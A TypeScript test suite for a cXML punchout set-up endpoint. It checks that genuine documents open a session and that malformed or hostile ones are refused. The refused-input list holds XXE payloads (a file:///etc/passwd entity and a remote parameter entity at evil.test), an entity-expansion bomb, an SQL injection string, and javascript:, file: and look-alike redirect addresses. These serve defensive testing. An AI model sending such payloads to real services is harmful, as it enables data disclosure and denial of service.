import { Buffer } from "node:buffer";
import { eq } from "drizzle-orm";
import { beforeEach, describe, expect, test } from "vitest";
import { punchoutConnections, punchoutSessions } from "../../../commerce/modules/punchout/tables";
import { carts } from "../../../commerce/modules/carts/tables";
import { apiOfFile } from "../../support/api";
import {
  credential,
  FROM,
  itemOut,
  SENDER,
  sendCxml,
  setupDocument,
  sidOf,
  type SetupParts,
} from "../../support/cxml";
import { expectUnstrained, watchedRun } from "../../support/watched-run";

const api = await apiOfFile();
beforeEach(async () => {
  await api.db.delete(carts);
  await api.db.delete(punchoutSessions);
});
const bytes = (text: string, encoding: BufferEncoding) => new Uint8Array(Buffer.from(text, encoding));
const post = (url: string) => `<BrowserFormPost><URL>${url}</URL></BrowserFormPost>`;
const utf16 = (text: string) => new Uint8Array([0xff, 0xfe, ...bytes(text, "utf16le")]);

/** Documents that real systems send, each with something of its own. */
const GENUINE: [string, SetupParts][] = [
  ["as in the book", {}],
  ["without a DOCTYPE", { doctype: "" }],
  ["without a declaration", { declaration: "" }],
  ["with an empty internal subset", { doctype: '<!DOCTYPE cXML SYSTEM "http://x.example/cXML.dtd" []>' }],
  [
    "with a DOCTYPE of another version",
    { doctype: '<!DOCTYPE cXML PUBLIC "" "http://xml.cxml.org/1.1/cXML.dtd">' },
  ],
  [
    "with extrinsics before and after",
    {
      more: '<Extrinsic name="UserEmail">a@b.example</Extrinsic><Contact role="endUser"><Name xml:lang="en">A</Name></Contact>',
    },
  ],
  [
    "with the sender's domain in another case",
    { senders: credential("NETWORKID", "TENDERLINE", "Kitroom-2026!") },
  ],
  [
    "with spaces around the identity",
    { senders: credential("NetworkId", "  TENDERLINE\n", "  Kitroom-2026! ") },
  ],
  ["with two credentials of the sender", { senders: credential("DUNS", "079928354") + SENDER }],
  ["with two credentials of the buyer", { from: credential("DUNS", "079928354") + FROM }],
  ["with an operation in capitals", { operation: "CREATE" }],
  ["with elements in the cookie", { cookie: "<Session><Id>0017</Id></Session>" }],
  ["with a cookie in CDATA", { cookie: "<![CDATA[a&b<c]]>" }],
  ["with a supplier URL", { more: "<SupplierSetup><URL>https://old.example</URL></SupplierSetup>" }],
  [
    "with a selected item",
    { more: "<SelectedItem><ItemID><SupplierPartID>KC-5002</SupplierPartID></ItemID></SelectedItem>" },
  ],
  [
    "with a selected item that is not sold",
    { more: "<SelectedItem><ItemID><SupplierPartID>GONE</SupplierPartID></ItemID></SelectedItem>" },
  ],
  ["with a return address with a port", { post: post("https://tenderline.example:443/Return%7B1%7D?a=b") }],
  [
    "with a return address in plain http, which this connection may",
    { post: post("http://tenderline.example/r") },
  ],
  ["with a return address in capitals", { post: post("HTTPS://Tenderline.EXAMPLE/Return") }],
  ["with space around the return address", { post: post("\n   https://tenderline.example/r  \n") }],
  ["with comments and instructions", { more: "<!-- a note --><?x y?>" }],
  [
    "with a name in Latin letters and signs",
    { more: "<Extrinsic name='User'>O'Brien-Ngāti &lt;b&gt;&amp; 漢字 🙂</Extrinsic>" },
  ],
];

describe("set-up documents of real systems", () => {
  test.each(GENUINE)("[PO-01] %s: a visit opens", async (_, parts) => {
    const { code, start, text } = await sendCxml(api, setupDocument(parts));
    expect([code, text]).toEqual(["200", text]);
    expect(start).toMatch(/^https:\/\/uniforms\.shop\.example\/punchout\/cxml\/session\?sid=[\w-]{32}$/);
    const session = await api.call("GET", `/punchout/sessions/${sidOf(start)}`);
    expect(session.body).toMatchObject({ customerId: "KC-000009", punchOutOperation: "CREATE" });
  });

  test.each([
    ["UTF-8 with a mark", bytes(`\uFEFF${setupDocument()}`, "utf8"), "text/xml"],
    ["UTF-16 with a mark", utf16(setupDocument({ declaration: "" })), "application/xml"],
    [
      "Latin 1 by its declaration",
      bytes(
        setupDocument({
          declaration: '<?xml version="1.0" encoding="ISO-8859-1"?>',
          more: "<Extrinsic name='User'>Zoë</Extrinsic>",
        }),
        "latin1",
      ),
      "text/xml",
    ],
    [
      "Latin 1 by the content type",
      bytes(setupDocument({ more: "<Extrinsic name='User'>Zoë</Extrinsic>" }), "latin1"),
      "text/xml; charset=iso-8859-1",
    ],
    [
      "UTF-16 by its own declaration alone",
      bytes(setupDocument({ declaration: '<?xml version="1.0" encoding="utf-16"?>' }), "utf8"),
      "text/xml",
    ],
    ["text/html", bytes(setupDocument(), "utf8"), "text/html"],
    ["a form type", bytes(setupDocument(), "utf8"), "application/x-www-form-urlencoded"],
    ["lines of Windows", bytes(setupDocument().replaceAll("\n", "\r\n"), "utf8"), "text/xml"],
  ])("[PO-01] in %s: a visit opens", async (_, document, type) => {
    expect((await sendCxml(api, document, { type })).code).toBe("200");
  });

  const LATIN = '<?xml version="1.0" encoding="ISO-8859-1"?>';
  test.each([
    ["text/xml; charset=us-ascii", undefined, "utf8"],
    ["text/xml; charset=ISO-8859-1", undefined, "utf8"],
    ["text/xml; charset=us-ascii", "", "utf8"],
    ["text/xml; charset=us-ascii", LATIN, "latin1"],
    ["text/xml; charset=iso-8859-1", undefined, "latin1"],
    ["text/xml; charset=utf-8", LATIN, "utf8"],
  ] as const)(
    "[PO-01] %s over the declaration %s and bytes of %s: the bytes decide",
    async (type, declaration, is) => {
      const document = bytes(setupDocument({ declaration, cookie: "Zoë" }), is);
      expect((await sendCxml(api, document, { type })).code).toBe("200");
      const [row] = await api.db.select().from(punchoutSessions);
      expect(row!.buyerCookie).toBe("Zoë");
    },
  );

  test("[PO-01] an address and a cookie are kept as they came", async () => {
    const address = "https://tenderline.example:443/Return%7B1%7D?a=b&amp;C=%2F";
    const { start } = await sendCxml(api, setupDocument({ post: post(address), cookie: "0017 é" }));
    const [row] = await api.db.select().from(punchoutSessions);
    expect([row!.browserFormPostUrl, row!.buyerCookie]).toEqual([address.replace("&amp;", "&"), "0017 é"]);
    expect(row!.frameOrigins).toEqual(["https://tenderline.example"]);
    expect(JSON.stringify(row)).not.toContain(sidOf(start));
  });
});

const nested = (depth: number) => "<a>".repeat(depth) + "</a>".repeat(depth);
const bomb = '<!DOCTYPE cXML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>';

/** Documents that open nothing, with the status that says why. */
const REFUSED: [string, string, string][] = [
  [
    "an unknown sender",
    setupDocument({ senders: credential("NetworkId", "NOBODY", "Kitroom-2026!") }),
    "401",
  ],
  [
    "a wrong secret",
    setupDocument({ senders: credential("NetworkId", "TENDERLINE", "kitroom-2026!") }),
    "401",
  ],
  ["no secret", setupDocument({ senders: credential("NetworkId", "TENDERLINE") }), "401"],
  ["an empty secret", setupDocument({ senders: credential("NetworkId", "TENDERLINE", " ") }), "401"],
  [
    "two secrets in one credential",
    setupDocument({
      senders: SENDER.replace("</Credential>", "<SharedSecret>Kitroom-2026!</SharedSecret></Credential>"),
    }),
    "401",
  ],
  ["two credentials with secrets", setupDocument({ senders: SENDER + SENDER }), "401"],
  [
    "the secret in From",
    setupDocument({ senders: credential("NetworkId", "TENDERLINE"), from: SENDER }),
    "401",
  ],
  [
    "another domain of the sender",
    setupDocument({ senders: credential("DUNS", "TENDERLINE", "Kitroom-2026!") }),
    "401",
  ],
  [
    "an identity in another case",
    setupDocument({ senders: credential("NetworkId", "Tenderline", "Kitroom-2026!") }),
    "401",
  ],
  ["SQL in the identity", setupDocument({ senders: credential("NetworkId", "' or 1=1 --", "x") }), "401"],
  ["a buyer of somebody else", setupDocument({ from: credential("NetworkId", "OTHERBUYER") }), "403"],
  ["no buyer", setupDocument({ from: "" }), "403"],
  ["sourcing", setupDocument({ operation: "source" }), "450"],
  ["an unknown operation", setupDocument({ operation: "destroy" }), "400"],
  ["no operation", setupDocument().replace(' operation="create"', ""), "400"],
  ["no cookie", setupDocument({ cookie: " " }), "400"],
  ["a cookie of 3,000 characters", setupDocument({ cookie: "x".repeat(3000) }), "400"],
  ["no return address", setupDocument({ post: "" }), "400"],
  ["a return address of another host", setupDocument({ post: post("https://evil.test/") }), "400"],
  ["a host that only ends the same", setupDocument({ post: post("https://evilexample/") }), "400"],
  ["a host in the user part", setupDocument({ post: post("https://tenderline.example@evil.test/") }), "400"],
  ["a user in the address", setupDocument({ post: post("https://a:b@tenderline.example/") }), "400"],
  ["a script as address", setupDocument({ post: post("javascript:alert(1)") }), "400"],
  ["a data address", setupDocument({ post: post("data:text/html,x") }), "400"],
  ["a file as address", setupDocument({ post: post("file:///etc/passwd") }), "400"],
  ["nonsense as address", setupDocument({ post: post("nowhere") }), "400"],
  ["a policy in the address", setupDocument({ post: post("https://tenderline.example;script-src/") }), "400"],
  ["an edit of nothing", setupDocument({ operation: "edit" }), "412"],
  ["an inspection of nothing", setupDocument({ operation: "inspect" }), "412"],
  [
    "an entity that is declared",
    setupDocument({ doctype: bomb, more: "<Extrinsic name='x'>&b;</Extrinsic>" }),
    "406",
  ],
  ["an entity that nobody uses", setupDocument({ doctype: bomb }), "406"],
  [
    "a file as entity",
    setupDocument({
      doctype: '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      more: "<a>&x;</a>",
    }),
    "406",
  ],
  [
    "a parameter entity",
    setupDocument({ doctype: '<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]>' }),
    "406",
  ],
  ["an entity that nobody declared", setupDocument({ more: "<a>&nbsp;</a>" }), "406"],
  ["a bare ampersand", setupDocument({ more: "<a>a & b</a>" }), "406"],
  ["an attribute twice", setupDocument({ more: '<a b="1" b="2"/>' }), "406"],
  ["two roots", `${setupDocument()}<cXML/>`, "406"],
  ["an open end", setupDocument().slice(0, -8), "406"],
  ["a NUL", setupDocument({ more: "<a>\u0000</a>" }), "406"],
  ["1,000 levels", setupDocument({ more: nested(1000) }), "406"],
  ["30,000 elements", setupDocument({ more: "<a/>".repeat(30_000) }), "406"],
  [
    "100 attributes",
    setupDocument({ more: `<a ${Array.from({ length: 100 }, (_, n) => `a${n}=""`).join(" ")}/>` }),
    "406",
  ],
  ["more than a million bytes", setupDocument({ more: `<a>${"x".repeat(1_000_001)}</a>` }), "499"],
  ["nothing", "", "406"],
  ["words", "hello", "406"],
  ["JSON", '{"cXML":{}}', "406"],
  ["HTML", "<!DOCTYPE html><html><body></body></html>", "400"],
  ["a response", '<cXML payloadID="1"><Response><Status code="200"/></Response></cXML>', "400"],
  ["no header", '<cXML payloadID="1"><Request><PunchOutSetupRequest/></Request></cXML>', "400"],
  ["another request", setupDocument().replaceAll("PunchOutSetupRequest", "OrderRequest"), "450"],
];

describe("set-up documents that open nothing", () => {
  test.each(REFUSED)("[PO-01] %s", async (_, document, expected) => {
    const started = performance.now();
    const { code, start, text } = await sendCxml(api, document);
    expect([code, start]).toEqual([expected, undefined]);
    expect(text).not.toContain("root:");
    expect(performance.now() - started).toBeLessThan(5000);
    expect(await api.db.$count(punchoutSessions)).toBe(0);
  });

  test.each([
    ["bytes that are no UTF-8", new Uint8Array([...bytes(setupDocument(), "utf8"), 0xff, 0xfe]), "text/xml"],
    [
      "another encoding than it says",
      bytes(setupDocument({ more: "<a>é</a>" }), "latin1"),
      "text/xml; charset=utf-8",
    ],
    ["an unknown encoding", bytes(setupDocument(), "utf8"), "text/xml; charset=ebcdic"],
    [
      "bytes of Latin 1 that are told to be ASCII",
      bytes(setupDocument({ more: "<a>é</a>" }), "latin1"),
      "text/xml; charset=us-ascii",
    ],
  ])("[PO-01] %s", async (_, document, type) => {
    expect((await sendCxml(api, document, { type })).code).toBe("406");
  });

  test("[PO-01] an unknown sender and a wrong secret are told the same", async () => {
    const told = async (identity: string, secret: string) =>
      (
        await sendCxml(api, setupDocument({ senders: credential("NetworkId", identity, secret) }))
      ).text.replace(/(payloadID|timestamp)="[^"]*"/g, "");
    expect(await told("NOBODY", "Kitroom-2026!")).toBe(await told("TENDERLINE", "wrong"));
  });

  test("[PO-01] a closed connection opens nothing", async () => {
    await api.db.update(punchoutConnections).set({ active: false });
    expect((await sendCxml(api, setupDocument())).code).toBe("403");
    await api.db.update(punchoutConnections).set({ active: true });
    await api.db.update(punchoutConnections).set({ allowHttpReturn: false });
    expect((await sendCxml(api, setupDocument({ post: post("http://tenderline.example/") }))).code).toBe(
      "400",
    );
    await api.db.update(punchoutConnections).set({ allowHttpReturn: true });
  });
});

describe("a document that is sent again", () => {
  test("[PO-01] has the same answer and opens no second visit, also at the same time", async () => {
    const document = setupDocument({ payloadId: "twice@tenderline" });
    const answers = await Promise.all(Array.from({ length: 10 }, () => sendCxml(api, document)));
    expect(new Set(answers.map(({ text }) => text)).size).toBe(1);
    expect(await api.db.$count(punchoutSessions)).toBe(1);
    expect((await sendCxml(api, setupDocument({ payloadId: "other@tenderline" }))).start).not.toBe(
      answers[0]!.start,
    );
  });
});

describe("a sender who has not shown a secret", () => {
  const wrong = { senders: credential("NetworkId", "TENDERLINE", "wrong") };
  /** Sends a document piece by piece, and tells how much of it was asked for. */
  async function streamed(text: string, path = "setup") {
    let at = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(out) {
        if (at >= text.length) return out.close();
        out.enqueue(bytes(text.slice(at, at + 8000), "utf8"));
        at += 8000;
      },
    });
    const url = `http://commerce.test/occ/v2/uniforms/punchout/cxml/${path}`;
    const headers = { "Content-Type": "text/xml" };
    const answer = await api.fetch(new Request(url, { method: "POST", headers, body, duplex: "half" }));
    const code = /<Status code="(\d+)"/.exec(await answer.text())?.[1];
    return { code, read: at, unknown: answer.headers.get("X-Unknown-Sender") };
  }
  const long = `<Extrinsic name="x">${"y".repeat(500_000)}</Extrinsic>`;
  /** What is sent before the document is left, and what a reader may have asked for in advance. */
  const LITTLE = 60_000;

  test("[PO-01] sends a long document in vain: no more than its beginning is read", async () => {
    const refused = await streamed(setupDocument({ ...wrong, more: long }));
    expect(refused).toMatchObject({ code: "401", unknown: "1" });
    expect(refused.read).toBeLessThan(LITTLE);
    const headless = await streamed(`<cXML x="${"y".repeat(500_000)}">${setupDocument()}`);
    expect(headless).toMatchObject({ code: "499", unknown: "1" });
    expect(headless.read).toBeLessThan(LITTLE);
    const profile = setupDocument({ ...wrong, more: long }).replaceAll(
      "PunchOutSetupRequest",
      "ProfileRequest",
    );
    expect((await streamed(profile, "profile")).code).toBe("401");
  });

  test("[PO-01] who shows one has a long document read to its end", async () => {
    expect(await streamed(setupDocument({ more: long }))).toMatchObject({ code: "200", unknown: null });
  });

  test.each([
    ["401", setupDocument(wrong), "setup"],
    ["406", "no XML", "setup"],
    ["400", "<cXML/>", "setup"],
    ["450", setupDocument(wrong), "order"],
    ["200", setupDocument(wrong).replaceAll("PunchOutSetupRequest", "ProfileRequest"), "profile"],
  ])("[PO-01] is counted by the host, although the answer is %s", async (code, document, path) => {
    expect(await streamed(document, path)).toMatchObject({ code, unknown: "1" });
  });

  test("[PO-01] whose secret is right is not counted, although nothing opens", async () => {
    const operation = "destroy";
    expect(await streamed(setupDocument({ operation }))).toMatchObject({ code: "400", unknown: null });
    expect(await streamed(setupDocument(), "order")).toMatchObject({ code: "450", unknown: null });
  });
});

test("[PO-07] a profile tells what the shop answers", async () => {
  const document = setupDocument().replace(
    /<PunchOutSetupRequest[^]*<\/PunchOutSetupRequest>/,
    "<ProfileRequest/>",
  );
  const { code, text } = await sendCxml(api, document, { path: "profile" });
  expect(code).toBe("200");
  expect(text).toContain('requestName="PunchOutSetupRequest"');
});

test("[PO-01] 300 variations of a document never make a fault and never open a visit of another buyer", async () => {
  let state = 11;
  const upTo = (most: number) => (state = (state * 48_271) % 2_147_483_647) % (most + 1);
  const pieces = [
    "<",
    ">",
    "&",
    '"',
    "&#0;",
    "]]>",
    "<!ENTITY x ''>",
    "\u0000",
    "é",
    "</Header>",
    "<Sender/>",
  ];
  const runs = Number(process.env["CXML_VARIATIONS"] ?? 300);
  const watched = watchedRun();
  for (let run = 0; run < runs; run += 1) {
    // An account may have 200 visits open.
    if (run % 100 === 0) await api.db.delete(punchoutSessions);
    let text = setupDocument({
      operation: upTo(1) ? "create" : "edit",
      more: itemOut("KC-5002-NAVY-M", upTo(9)),
    });
    for (let change = 0; change <= upTo(3); change += 1) {
      const at = upTo(text.length - 1);
      text =
        text.slice(0, at) + (upTo(1) ? pieces[upTo(pieces.length - 1)]! : "") + text.slice(at + upTo(12));
    }
    const { code } = await watched.timed(() => sendCxml(api, text));
    expect([code, ["200", "400", "401", "403", "406", "412", "450"].includes(code)]).toEqual([code, true]);
  }
  const seen = watched.end();
  if (runs > 300 && api.kind === "pglite") expectUnstrained(seen);
  const others = await api.db
    .select()
    .from(punchoutSessions)
    .where(eq(punchoutSessions.connection, "Tenderline"));
  expect(others).toHaveLength(await api.db.$count(punchoutSessions));
});
